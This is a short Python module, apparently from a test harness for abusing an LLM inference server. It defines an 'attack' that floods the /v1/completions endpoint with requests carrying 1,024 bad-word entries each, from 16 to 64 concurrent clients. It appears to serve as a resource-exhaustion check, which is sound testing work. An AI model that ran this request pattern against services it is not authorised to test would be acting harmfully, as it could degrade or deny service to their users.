"""Requests with 1,024 bad words each."""

from abuse.attack import Attack
from abuse.wire import Target, encode, request


async def once(target: Target, number: int) -> int:
    words = [f"{number} {at} b" for at in range(1024)]
    body = encode({"prompt": "the", "max_tokens": 16, "ignore_eos": True, "bad_words": words})
    return await request(target, "/v1/completions", body)


ATTACK = Attack(__doc__, once, num_clients=(16, 64), in_gate=True)
